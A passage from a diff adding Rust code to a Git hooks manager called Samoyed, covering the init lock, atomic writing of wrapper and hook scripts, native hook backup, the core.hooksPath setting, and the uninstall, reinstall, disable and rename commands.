+        &underscore_dir,
+    ))?;
+
+    Ok(actions)
+}
+
+/// Exclusive lock held while `init_samoyed` runs
+///
+/// Dropping the guard deletes the lock file (and any directory created only to
+/// hold the lock, if nothing else was written to it), then releases the lock.
+#[derive(Debug)]
+struct InitLock {
+    /// Path to the lock file
+    path: PathBuf,
+    /// Whether `lock_init` created the samoyed directory
+    created_samoyed_dir: bool,
+    /// Whether `lock_init` created the `_` directory
+    created_wrapper_dir: bool,
+    /// The `.gitignore` written next to the lock, until `init_samoyed` reports it
+    gitignore: Option<InitAction>,
+    /// Open lock file; closing it releases the OS lock
+    _file: fs::File,
+}
+
+impl Drop for InitLock {
+    fn drop(&mut self) {
+        // Delete the file while still holding the lock, so no other run can lock
+        // it in between; `lock_init` rejects a lock taken on a deleted file
+        let _ = fs::remove_file(&self.path);
+        let Some(wrapper_dir) = self.path.parent() else {
+            return;
+        };
+        if self.created_wrapper_dir {
+            let only_gitignore = fs::read_dir(wrapper_dir).is_ok_and(|entries| {
+                entries
+                    .map(|entry| entry.map(|entry| entry.file_name()))
+                    .collect::<Result<Vec<_>, _>>()
+                    .is_ok_and(|names| names == [GITIGNORE_NAME])
+            });
+            if only_gitignore {
+                let _ = fs::remove_file(wrapper_dir.join(GITIGNORE_NAME));
+            }
+            let _ = fs::remove_dir(wrapper_dir);
+        }
+        if self.created_samoyed_dir
+            && let Some(samoyed_dir) = wrapper_dir.parent()
+        {
+            let _ = fs::remove_dir(samoyed_dir);
+        }
+    }
+}
+
+/// Take the exclusive lock that keeps concurrent `init` runs from interleaving
+///
+/// The lock is an advisory OS file lock on `<dirname>/_/.init.lock`, so the OS
+/// releases it when the process dies and a killed init never blocks later runs.
+/// The `_` directory and its `.gitignore` are created first, so a lock file
+/// left behind by a killed run is ignored by Git; everything else is left to
+/// the steps that follow.
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+///
+/// # Returns
+///
+/// Returns the lock guard, `InitError::Locked` if another process holds the
+/// lock, or an error if the lock file cannot be created or locked
+fn lock_init(samoyed_dir: &Path) -> Result<InitLock, InitError> {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let created_samoyed_dir = !samoyed_dir.exists();
+    fs::create_dir_all(samoyed_dir)
+        .map_err(InitError::io(ERR_FAILED_CREATE_SAMOYED_DIR, samoyed_dir))?;
+    let created_wrapper_dir = !wrapper_dir.exists();
+    fs::create_dir_all(&wrapper_dir)
+        .map_err(InitError::io(ERR_FAILED_CREATE_WRAPPER_DIR, &wrapper_dir))?;
+    let gitignore = create_gitignore(samoyed_dir, false)?;
+
+    let lock_path = wrapper_dir.join(INIT_LOCK_NAME);
+    let file = fs::OpenOptions::new()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(&lock_path)
+        .map_err(InitError::io(ERR_FAILED_LOCK, &lock_path))?;
+    match file.try_lock() {
+        Ok(()) => {}
+        Err(fs::TryLockError::WouldBlock) => return Err(InitError::Locked { lock_path }),
+        Err(fs::TryLockError::Error(e)) => {
+            return Err(InitError::io(ERR_FAILED_LOCK, &lock_path)(e));
+        }
+    }
+
+    // A run that just finished may have deleted the file we opened; that lock
+    // would not exclude a run that creates a fresh file
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::MetadataExt;
+        let locked = file
+            .metadata()
+            .map_err(InitError::io(ERR_FAILED_GET_METADATA, &lock_path))?;
+        let same_file = fs::metadata(&lock_path)
+            .is_ok_and(|current| current.dev() == locked.dev() && current.ino() == locked.ino());
+        if !same_file {
+            return Err(InitError::Locked { lock_path });
+        }
+    }
+
+    Ok(InitLock {
+        path: lock_path,
+        created_samoyed_dir,
+        created_wrapper_dir,
+        gitignore,
+        _file: file,
+    })
+}
+
+/// Build the wrapper script contents with the version stamp after the shebang
+///
+/// # Returns
+///
+/// Returns the embedded wrapper script with a `# samoyed-wrapper-version:` line
+fn wrapper_script() -> Vec<u8> {
+    let split = SAMOYED_WRAPPER_SCRIPT
+        .iter()
+        .position(|&b| b == b'\n')
+        .map_or(SAMOYED_WRAPPER_SCRIPT.len(), |i| i + 1);
+    let mut script = Vec::with_capacity(SAMOYED_WRAPPER_SCRIPT.len() + 64);
+    script.extend_from_slice(&SAMOYED_WRAPPER_SCRIPT[..split]);
+    script.extend_from_slice(format!("{}{}\n", WRAPPER_VERSION_MARKER, WRAPPER_VERSION).as_bytes());
+    script.extend_from_slice(&SAMOYED_WRAPPER_SCRIPT[split..]);
+    script
+}
+
+/// Read the version stamp from an installed wrapper script
+///
+/// # Arguments
+///
+/// * `wrapper_path` - Path to the installed `_/samoyed` wrapper
+///
+/// # Returns
+///
+/// Returns the recorded version, or `None` if the file is unreadable or unstamped
+fn read_wrapper_version(wrapper_path: &Path) -> Option<String> {
+    let content = fs::read_to_string(wrapper_path).ok()?;
+    content.lines().find_map(|line| {
+        line.strip_prefix(WRAPPER_VERSION_MARKER)
+            .map(|version| version.trim().to_string())
+    })
+}
+
+/// Copy the embedded wrapper script to _/samoyed
+///
+/// The script is copied with platform-appropriate permissions:
+/// - Unix: 644 permissions (rw-r--r--) since the wrapper is sourced, not executed
+/// - Windows: Default filesystem permissions (no Unix-style permission bits)
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dry_run` - Only report the write that would happen
+///
+/// # Returns
+///
+/// Returns the `WriteFile` action on success, `None` if the installed wrapper is
+/// already up to date, or an error message on failure
+fn copy_wrapper_script(samoyed_dir: &Path, dry_run: bool) -> Result<Option<InitAction>, InitError> {
+    let wrapper_path = samoyed_dir.join(WRAPPER_DIR_NAME).join(WRAPPER_SCRIPT_NAME);
+    let script = wrapper_script();
+    if is_file_current(&wrapper_path, &script, REGULAR_FILE_MODE) {
+        log_unchanged(&wrapper_path);
+        return Ok(None);
+    }
+    let action = InitAction::write_file(wrapper_path.clone(), Some(REGULAR_FILE_MODE), &script);
+
+    if dry_run {
+        return Ok(Some(action));
+    }
+
+    if let Some(previous) = read_wrapper_version(&wrapper_path)
+        && previous != WRAPPER_VERSION
+    {
+        log(
+            LogLevel::Debug,
+            &format!(
+                "Updating stale wrapper script from version {} to {}",
+                previous, WRAPPER_VERSION
+            ),
+        );
+    }
+
+    // Write the embedded script with 644 (rw-r--r--) permissions on Unix,
+    // because the wrapper is sourced, not executed
+    write_file_atomically(
+        &wrapper_path,
+        &script,
+        REGULAR_FILE_MODE,
+        ERR_FAILED_WRITE_WRAPPER,
+    )?;
+
+    Ok(Some(action))
+}
+
+/// Check whether a generated file already has the content and mode init would write
+///
+/// Such files are not rewritten, so re-running init leaves their mtimes alone and
+/// does not wake up file watchers.
+///
+/// # Arguments
+///
+/// * `path` - Path to the generated file
+/// * `content` - The content init would write
+/// * `mode` - The Unix mode init would set (on Windows, the file must be writable)
+///
+/// # Returns
+///
+/// Returns true if the file exists with identical content and permissions
+fn is_file_current(path: &Path, content: &[u8], mode: u32) -> bool {
+    if !fs::read(path).is_ok_and(|existing| existing == content) {
+        return false;
+    }
+
+    #[cfg(unix)]
+    {
+        fs::metadata(path).is_ok_and(|metadata| metadata.permissions().mode() & 0o777 == mode)
+    }
+
+    #[cfg(not(unix))]
+    {
+        let _ = mode;
+        fs::metadata(path).is_ok_and(|metadata| !metadata.permissions().readonly())
+    }
+}
+
+/// Report a generated file that init left untouched (shown with `--verbose`)
+///
+/// # Arguments
+///
+/// * `path` - Path to the unchanged file
+fn log_unchanged(path: &Path) {
+    log(LogLevel::Debug, &format!("Unchanged {}", path.display()));
+}
+
+/// Write a generated file to a temporary sibling and rename it into place
+///
+/// The rename replaces the old file in one step, so a process killed mid-write
+/// leaves at most a stray temporary file instead of a truncated hook or wrapper.
+/// The temporary file gets its final permissions before the rename. On Windows
+/// a read-only destination is made writable first so the rename can replace it.
+///
+/// # Arguments
+///
+/// * `path` - Destination of the generated file
+/// * `content` - Bytes to write
+/// * `mode` - Unix permission bits for the file (ignored on Windows)
+/// * `context` - Error prefix used if writing or renaming fails
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error naming the destination on failure
+fn write_file_atomically(
+    path: &Path,
+    content: &[u8],
+    mode: u32,
+    context: &'static str,
+) -> Result<(), InitError> {
+    let file_name = path
+        .file_name()
+        .map(|name| name.to_string_lossy())
+        .unwrap_or_default();
+    let temp_path = path.with_file_name(format!(
+        ".{}.{}{}",
+        file_name,
+        process::id(),
+        TEMP_FILE_SUFFIX
+    ));
+
+    #[cfg(windows)]
+    if path.exists() {
+        clear_readonly(path)?;
+    }
+
+    let write_temp = || -> Result<(), InitError> {
+        let mut file = fs::File::create(&temp_path).map_err(InitError::io(context, path))?;
+        file.write_all(content)
+            .and_then(|()| file.sync_all())
+            .map_err(InitError::io(context, path))?;
+        #[cfg(unix)]
+        fs::set_permissions(&temp_path, fs::Permissions::from_mode(mode))
+            .map_err(InitError::io(ERR_FAILED_SET_PERMISSIONS, path))?;
+        #[cfg(not(unix))]
+        let _ = mode;
+        fs::rename(&temp_path, path).map_err(InitError::io(context, path))
+    };
+    let result = write_temp();
+    if result.is_err() {
+        let _ = fs::remove_file(&temp_path);
+    }
+    result
+}
+
+/// Create hook scripts in the _ directory
+///
+/// Creates the selected Git hook scripts with platform-appropriate permissions:
+/// - Unix: 755 permissions (rwxr-xr-x) to make scripts executable
+/// - Windows: Default filesystem permissions (executable attribute handled automatically)
+///
+/// Each script sources the shared wrapper so user hooks run consistently.
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `hooks` - The hooks to create scripts for
+/// * `dry_run` - Only report the writes that would happen
+///
+/// # Returns
+///
+/// Returns a `WriteFile` action per hook that is (or would be) written; hooks
+/// that are already up to date are skipped. Returns an error message on failure.
+fn create_hook_scripts(
+    samoyed_dir: &Path,
+    hooks: &[&str],
+    shell: &str,
+    dry_run: bool,
+) -> Result<Vec<InitAction>, InitError> {
+    let underscore_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let mut actions = Vec::with_capacity(hooks.len());
+    let script = hook_script(shell);
+
+    for hook_name in hooks {
+        let hook_path = underscore_dir.join(hook_name);
+        if is_file_current(&hook_path, script.as_bytes(), EXECUTABLE_MODE) {
+            log_unchanged(&hook_path);
+            continue;
+        }
+        actions.push(InitAction::write_file(
+            hook_path.clone(),
+            Some(EXECUTABLE_MODE),
+            script.as_bytes(),
+        ));
+
+        if dry_run {
+            continue;
+        }
+
+        // Write the hook script with 755 (rwxr-xr-x) permissions on Unix. On
+        // Windows, Git runs hooks through its bundled shell, which only needs
+        // the file to be readable
+        write_file_atomically(
+            &hook_path,
+            script.as_bytes(),
+            EXECUTABLE_MODE,
+            ERR_FAILED_WRITE_HOOK,
+        )?;
+    }
+
+    Ok(actions)
+}
+
+/// Create a sample pre-commit hook in the samoyed directory
+///
+/// This creates a simple pre-commit hook template that users can extend.
+/// An existing pre-commit hook is the user's own and is left alone unless
+/// `overwrite` is set, in which case it is reset to the sample.
+/// The file is created with platform-appropriate permissions:
+/// - Unix: 644 permissions (rw-r--r--)
+/// - Windows: Default filesystem permissions
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `shell` - Interpreter for the sample's shebang
+/// * `overwrite` - Replace an existing pre-commit hook with the sample
+/// * `dry_run` - Only report the write that would happen
+///
+/// # Returns
+///
+/// Returns the `WriteFile` action if the sample is (or would be) written, `None`
+/// if an existing hook is kept, or an error message on failure
+fn create_sample_pre_commit(
+    samoyed_dir: &Path,
+    shell: &str,
+    overwrite: bool,
+    dry_run: bool,
+) -> Result<Option<InitAction>, InitError> {
+    let pre_commit_path = samoyed_dir.join(SAMPLE_HOOK_NAME);
+    let content = with_shebang(SAMPLE_PRE_COMMIT_CONTENT, shell);
+    let existing = fs::read(&pre_commit_path).ok();
+    if existing.is_some() && !overwrite {
+        return Ok(None);
+    }
+
+    let action = InitAction::write_file(
+        pre_commit_path.clone(),
+        Some(REGULAR_FILE_MODE),
+        content.as_bytes(),
+    );
+
+    if dry_run {
+        return Ok(Some(action));
+    }
+
+    // Replacing the user's own script is worth a notice on stderr
+    if existing.is_some_and(|existing| existing != content.as_bytes()) {
+        log(
+            LogLevel::Warn,
+            &format!("{} {}", MSG_RESET_SAMPLE, pre_commit_path.display()),
+        );
+    }
+
+    // Write the sample pre-commit hook with 644 (rw-r--r--) permissions on Unix
+    write_file_atomically(
+        &pre_commit_path,
+        content.as_bytes(),
+        REGULAR_FILE_MODE,
+        ERR_FAILED_WRITE_SAMPLE,
+    )?;
+
+    Ok(Some(action))
+}
+
+/// Clear the read-only attribute of a generated file on Windows
+///
+/// Windows has no Unix mode bits, so the intended mode is only recorded in the
+/// `WriteFile` action. A read-only attribute (e.g. inherited from a copied or
+/// checked-out file) would make re-running init fail and cause "permission
+/// denied" errors when the repository is shared with WSL, so it is cleared.
+///
+/// # Arguments
+///
+/// * `path` - Path to the generated file
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message on failure
+#[cfg(windows)]
+// On Windows this only clears the attribute; there are no world-writable mode bits
+#[allow(clippy::permissions_set_readonly_false)]
+fn clear_readonly(path: &Path) -> Result<(), String> {
+    let mut permissions = fs::metadata(path)
+        .map_err(|e| format!("{} '{}': {}", ERR_FAILED_GET_METADATA, path.display(), e))?
+        .permissions();
+    if permissions.readonly() {
+        permissions.set_readonly(false);
+        fs::set_permissions(path, permissions)
+            .map_err(|e| format!("{} '{}': {}", ERR_FAILED_SET_PERMISSIONS, path.display(), e))?;
+    }
+    Ok(())
+}
+
+/// Find active hooks in a native Git hooks directory
+///
+/// Only executable regular files count; Git's inactive `*.sample` hooks are ignored.
+/// A missing directory simply has no hooks.
+///
+/// # Arguments
+///
+/// * `native_hooks_dir` - Path to the native hooks directory (e.g. `.git/hooks`)
+///
+/// # Returns
+///
+/// Returns the sorted hook paths, or an error message if the directory cannot be read
+fn find_native_hooks(native_hooks_dir: &Path) -> Result<Vec<PathBuf>, String> {
+    if !native_hooks_dir.is_dir() {
+        return Ok(Vec::new());
+    }
+
+    let entries = fs::read_dir(native_hooks_dir).map_err(|e| {
+        format!(
+            "{} '{}': {}",
+            ERR_FAILED_READ_NATIVE_HOOKS,
+            native_hooks_dir.display(),
+            e
+        )
+    })?;
+
+    let mut hooks: Vec<PathBuf> = entries
+        .filter_map(Result::ok)
+        .map(|entry| entry.path())
+        .filter(|path| path.extension().and_then(|ext| ext.to_str()) != Some(SAMPLE_HOOK_EXTENSION))
+        .filter(|path| path.is_file() && is_executable(path))
+        .collect();
+    hooks.sort();
+
+    Ok(hooks)
+}
+
+/// Check whether a file would be executed by Git as a hook
+///
+/// On Unix this checks the execute permission bits. Windows has no execute bit,
+/// and Git for Windows runs any hook file, so every file counts as executable.
+///
+/// # Arguments
+///
+/// * `path` - Path to the file
+///
+/// # Returns
+///
+/// Returns true if the file is executable
+#[cfg(unix)]
+fn is_executable(path: &Path) -> bool {
+    fs::metadata(path).is_ok_and(|metadata| metadata.permissions().mode() & 0o111 != 0)
+}
+
+/// Check whether a file would be executed by Git as a hook
+///
+/// On Unix this checks the execute permission bits. Windows has no execute bit,
+/// and Git for Windows runs any hook file, so every file counts as executable.
+///
+/// # Arguments
+///
+/// * `path` - Path to the file
+///
+/// # Returns
+///
+/// Returns true if the file is executable
+#[cfg(not(unix))]
+fn is_executable(path: &Path) -> bool {
+    path.is_file()
+}
+
+/// Back up active native Git hooks into the samoyed `backup` directory
+///
+/// Once core.hooksPath points at Samoyed, Git no longer runs hooks from
+/// `.git/hooks`. Copying them keeps them from being silently forgotten.
+/// Hooks whose backup is already identical are skipped, so re-running init
+/// does not report them again.
+///
+/// # Arguments
+///
+/// * `native_hooks_dir` - Path to the native hooks directory (e.g. `.git/hooks`)
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dry_run` - Only report the backups that would be written
+///
+/// # Returns
+///
+/// Returns a `WriteFile` action per backed-up hook, or an error message on failure
+fn backup_native_hooks(
+    native_hooks_dir: &Path,
+    samoyed_dir: &Path,
+    dry_run: bool,
+) -> Result<Vec<InitAction>, InitError> {
+    let backup_dir = samoyed_dir.join(BACKUP_DIR_NAME);
+    let mut actions = Vec::new();
+
+    for hook_path in find_native_hooks(native_hooks_dir)? {
+        let Some(file_name) = hook_path.file_name() else {
+            continue;
+        };
+        let content =
+            fs::read(&hook_path).map_err(InitError::io(ERR_FAILED_BACKUP_HOOK, &hook_path))?;
+
+        let backup_path = backup_dir.join(file_name);
+        if fs::read(&backup_path).is_ok_and(|existing| existing == content) {
+            continue;
+        }
+
+        actions.push(InitAction::write_file(backup_path.clone(), None, &content));
+        if dry_run {
+            continue;
+        }
+
+        fs::create_dir_all(&backup_dir)
+            .and_then(|_| fs::copy(&hook_path, &backup_path))
+            .map_err(InitError::io(ERR_FAILED_BACKUP_HOOK, &hook_path))?;
+    }
+
+    Ok(actions)
+}
+
+/// Set the git config core.hooksPath to point to the _ directory
+///
+/// Uses `git config core.hooksPath` to configure Git to use our hooks.
+/// Sets a relative path from the git repository root to avoid Windows extended-length path issues.
+/// The path is normalized to use Unix-style separators for Git configuration compatibility.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dry_run` - Only report the git config command that would run
+///
+/// # Returns
+///
+/// Returns the `GitConfig` action on success, or an error message on failure
+fn set_git_hooks_path(
+    git_root: &Path,
+    samoyed_dir: &Path,
+    dry_run: bool,
+) -> Result<InitAction, String> {
+    // Canonicalize both paths to ensure consistent path representation
+    let git_root_canonical = canonicalize_path(git_root)
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_GIT_ROOT, e))?;
+
+    let samoyed_dir_canonical = canonicalize_allowing_nonexistent(samoyed_dir)
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_SAMOYED, e))?;
+
+    // Calculate relative path from git root to hooks directory
+    let hooks_path = samoyed_dir_canonical.join(WRAPPER_DIR_NAME);
+    let relative_hooks_path = hooks_path.strip_prefix(&git_root_canonical).map_err(|_| {
+        format!(
+            "{}: '{}' is outside '{}'",
+            ERR_HOOKS_PATH_NOT_IN_REPO,
+            hooks_path.display(),
+            git_root_canonical.display()
+        )
+    })?;
+
+    // Convert to string with Unix-style separators for Git config
+    let hooks_path_str = relative_hooks_path
+        .to_str()
+        .ok_or_else(|| ERR_INVALID_HOOKS_PATH.to_string())?
+        .replace('\\', "/");
+
+    if !dry_run {
+        run_git_config_write(&[HOOKS_PATH_CONFIG_KEY, &hooks_path_str])
+            .map_err(|stderr| format!("{}: {}", ERR_FAILED_SET_HOOKS_PATH, stderr))?;
+
+        // A successful write can still be shadowed by a higher-precedence source
+        let effective = get_effective_hooks_path()?;
+        if effective.as_deref() != Some(hooks_path_str.as_str()) {
+            return Err(format!(
+                "{}: set '{}', but git reports '{}'",
+                ERR_HOOKS_PATH_NOT_APPLIED,
+                hooks_path_str,
+                effective.unwrap_or_default()
+            ));
+        }
+
+        // The relative path resolves against each worktree's own root, so every
+        // linked worktree needs its own (git-ignored) `_` directory
+        if is_linked_worktree()? {
+            log(LogLevel::Warn, MSG_LINKED_WORKTREE);
+        }
+    }
+
+    Ok(InitAction::GitConfig {
+        key: HOOKS_PATH_CONFIG_KEY,
+        value: hooks_path_str,
+    })
+}
+
+/// Run `git config <args>`, retrying with backoff while the config file is locked
+///
+/// Concurrent tools (IDEs, other git processes) can briefly hold `.git/config.lock`.
+/// Those failures are retried up to `GIT_CONFIG_LOCK_RETRIES` times, starting
+/// at `GIT_CONFIG_LOCK_BACKOFF_MS` and doubling; any other failure is returned
+/// immediately.
+///
+/// # Arguments
+///
+/// * `args` - Arguments passed after `git config`
+///
+/// # Returns
+///
+/// Returns `Ok(())` on success, or git's error output (or the spawn error) on failure
+fn run_git_config_write(args: &[&str]) -> Result<(), String> {
+    let mut backoff = Duration::from_millis(GIT_CONFIG_LOCK_BACKOFF_MS);
+    let mut attempt = 0;
+    loop {
+        let output = Command::new("git")
+            .arg("config")
+            .args(args)
+            .output()
+            .map_err(|e| format!("{}: {}", ERR_FAILED_SET_GIT_CONFIG, e))?;
+        if output.status.success() {
+            return Ok(());
+        }
+
+        let stderr = String::from_utf8_lossy(&output.stderr).trim().to_string();
+        if attempt >= GIT_CONFIG_LOCK_RETRIES || !stderr.contains(GIT_CONFIG_LOCK_MESSAGE) {
+            return Err(stderr);
+        }
+        attempt += 1;
+        thread::sleep(backoff);
+        backoff *= 2;
+    }
+}
+
+/// Create a .gitignore file in the _ directory
+///
+/// The .gitignore contains a single asterisk to ignore all files in the directory.
+/// Only creates the file if it doesn't already exist.
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dry_run` - Only report the write that would happen
+///
+/// # Returns
+///
+/// Returns the `WriteFile` action if the file is (or would be) created, `None` if
+/// it already exists, or an error message on failure
+fn create_gitignore(samoyed_dir: &Path, dry_run: bool) -> Result<Option<InitAction>, InitError> {
+    let gitignore_path = samoyed_dir.join(WRAPPER_DIR_NAME).join(GITIGNORE_NAME);
+
+    // Only create if it doesn't exist
+    if gitignore_path.exists() {
+        return Ok(None);
+    }
+
+    let action = InitAction::write_file(gitignore_path.clone(), None, GITIGNORE_CONTENT.as_bytes());
+    if !dry_run {
+        fs::write(&gitignore_path, GITIGNORE_CONTENT)
+            .map_err(InitError::io(ERR_FAILED_WRITE_GITIGNORE, &gitignore_path))?;
+    }
+
+    Ok(Some(action))
+}
+
+/// Remove Samoyed from the current git repository
+///
+/// This function reverses `init_samoyed`:
+/// 1. Unsets git config core.hooksPath if it points to the samoyed `_` directory
+/// 2. Removes the `_` wrapper directory
+/// 3. Removes the whole samoyed directory, including user hooks, when `purge` is set
+///
+/// Running it again after a successful uninstall is a no-op. If core.hooksPath
+/// points somewhere else, nothing is removed and an error is returned; with
+/// `force`, core.hooksPath is left untouched, a warning is printed, and the
+/// files are removed anyway.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `purge` - Whether to also remove user-authored hook scripts
+/// * `force` - Whether to remove the files even if core.hooksPath points elsewhere
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message on failure
+fn uninstall_samoyed(dirname: &str, purge: bool, force: bool) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+
+    let mut removed_anything = unset_git_hooks_path(&git_root, &samoyed_dir, force)?;
+
+    let target = if purge {
+        let git_root_canonical = canonicalize_path(&git_root)
+            .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_GIT_ROOT, e))?;
+        if samoyed_dir == git_root_canonical {
+            return Err(ERR_PURGE_GIT_ROOT.to_string());
+        }
+        samoyed_dir
+    } else {
+        samoyed_dir.join(WRAPPER_DIR_NAME)
+    };
+
+    if target.exists() {
+        fs::remove_dir_all(&target)
+            .map_err(|e| format!("{} '{}': {}", ERR_FAILED_REMOVE_DIR, target.display(), e))?;
+        log(LogLevel::Info, &format!("Removed {}", target.display()));
+        removed_anything = true;
+    }
+
+    if !removed_anything {
+        log(LogLevel::Info, MSG_NOTHING_TO_UNINSTALL);
+    }
+
+    Ok(())
+}
+
+/// Find the `--extra-hooks` scripts installed in a wrapper directory
+///
+/// An extra hook is a script (a file starting with `#!`) outside `GIT_HOOKS`
+/// whose name `--extra-hooks` would accept. The content is not compared with
+/// the generated stub, so `doctor --verify` also sees tampered extra hooks.
+///
+/// # Arguments
+///
+/// * `wrapper_dir` - Path to the samoyed `_` directory
+///
+/// # Returns
+///
+/// Returns the extra hook names in sorted order; an unreadable directory has none
+fn installed_extra_hooks(wrapper_dir: &Path) -> Vec<String> {
+    let Ok(entries) = fs::read_dir(wrapper_dir) else {
+        return Vec::new();
+    };
+    let mut extra_hooks: Vec<String> = entries
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| fs::read(entry.path()).is_ok_and(|content| content.starts_with(b"#!")))
+        .filter_map(|entry| entry.file_name().into_string().ok())
+        .filter(|name| select_extra_hooks(std::slice::from_ref(name)).is_ok())
+        .collect();
+    extra_hooks.sort();
+    extra_hooks
+}
+
+/// Refresh an existing installation after upgrading the binary
+///
+/// The samoyed directory is found from core.hooksPath rather than assumed, and
+/// the installed hook selection (including `--extra-hooks`) and `--shell` are
+/// kept. The wrapper, the hook scripts and `.gitignore` are rewritten where they
+/// differ from this version, and core.hooksPath is set again. User hook scripts and backups are never
+/// touched.
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message if core.hooksPath does not
+/// point to a Samoyed installation or the refresh fails
+fn reinstall_samoyed() -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let wrapper_dir = get_git_hooks_path()?
+        .map(|hooks_path| git_root.join(hooks_path))
+        .filter(|wrapper_dir| {
+            wrapper_dir.file_name() == Some(WRAPPER_DIR_NAME.as_ref())
+                && wrapper_dir.join(WRAPPER_SCRIPT_NAME).is_file()
+        })
+        .ok_or_else(|| ERR_NOT_INSTALLED.to_string())?;
+    let samoyed_dir = wrapper_dir
+        .parent()
+        .ok_or_else(|| ERR_NOT_INSTALLED.to_string())?;
+
+    let installed: Vec<&str> = GIT_HOOKS
+        .iter()
+        .copied()
+        .filter(|hook_name| wrapper_dir.join(hook_name).is_file())
+        .collect();
+    let extra_hooks = installed_extra_hooks(&wrapper_dir);
+    let shell = installed
+        .iter()
+        .copied()
+        .chain(extra_hooks.iter().map(String::as_str))
+        .next()
+        .and_then(|hook_name| fs::read_to_string(wrapper_dir.join(hook_name)).ok())
+        .map(|content| read_hook_shell(&content).to_string())
+        .filter(|shell| shell != DEFAULT_HOOK_SHELL);
+
+    let options = InitOptions {
+        no_backup: true,
+        no_samples: true,
+        hooks: (!installed.is_empty()).then(|| {
+            installed
+                .iter()
+                .map(|hook_name| hook_name.to_string())
+                .collect()
+        }),
+        extra_hooks,
+        shell,
+        // The installation already exists; init warned about other managers then
+        ignore_hook_managers: true,
+        ..InitOptions::default()
+    };
+    let report = init_samoyed(&samoyed_dir.to_string_lossy(), &options)?;
+    if report.bypassed {
+        log(LogLevel::Info, MSG_BYPASS_REINSTALL);
+        return Ok(());
+    }
+    for action in &report.actions {
+        log(LogLevel::Debug, &action.describe_applied());
+    }
+    log(
+        LogLevel::Info,
+        &format!("{} {}", MSG_REINSTALLED, samoyed_dir.display()),
+    );
+    Ok(())
+}
+
+/// Check a proposed samoyed dirname the same way `init` does
+///
+/// Prints `ok` (unless `--quiet`) if `init` would accept the name. Nothing is created, and git
+/// config is left untouched.
+///
+/// # Arguments
+///
+/// * `dirname` - The proposed directory name for Samoyed hooks
+///
+/// # Returns
+///
+/// Returns Ok(()) if the name is valid, or the error `init` would report
+fn validate_dirname(dirname: &str) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+    log(LogLevel::Info, "ok");
+    Ok(())
+}
+
+/// Create or remove the marker that disables every hook
+///
+/// The wrapper script checks for `_/disabled` before running a user hook. Unlike
+/// `SAMOYED=0`, the marker persists across shells until `samoyed enable` removes
+/// it. Both directions are idempotent.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `disabled` - Create the marker (`true`) or remove it (`false`)
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message if Samoyed is not installed or
+/// the marker cannot be written or removed
+fn set_hooks_disabled(dirname: &str, disabled: bool) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    if !wrapper_dir.join(WRAPPER_SCRIPT_NAME).is_file() {
+        return Err(ERR_NOT_INSTALLED.to_string());
+    }
+
+    let marker_path = wrapper_dir.join(DISABLED_MARKER_NAME);
+    if disabled {
+        fs::write(&marker_path, DISABLED_MARKER_CONTENT).map_err(|e| {
+            format!(
+                "{} '{}': {}",
+                ERR_FAILED_WRITE_MARKER,
+                marker_path.display(),
+                e
+            )
+        })?;
+        log(LogLevel::Info, MSG_HOOKS_DISABLED);
+    } else {
+        if marker_path.exists() {
+            fs::remove_file(&marker_path).map_err(|e| {
+                format!(
+                    "{} '{}': {}",
+                    ERR_FAILED_REMOVE_MARKER,
+                    marker_path.display(),
+                    e
+                )
+            })?;
+        }
+        log(LogLevel::Info, MSG_HOOKS_ENABLED);
+    }
+
+    Ok(())
+}
+
+/// Move the samoyed directory to a new name within the repository
+///
+/// The directory is moved with a single rename, so user scripts, the wrapper and
+/// the hook scripts move together; hook scripts find the wrapper and user hooks
+/// relative to their own location, so no file needs rewriting. core.hooksPath is
+/// then pointed at the new `_` directory. If that fails, the directory is moved
+/// back so the repository is left as it was.
+///
+/// # Arguments
+///
+/// * `dirname` - The current directory name for Samoyed hooks
+/// * `new_dirname` - The new directory name, validated like any samoyed dirname
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message on failure
+fn rename_samoyed(dirname: &str, new_dirname: &str) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+    let new_samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, new_dirname)?;
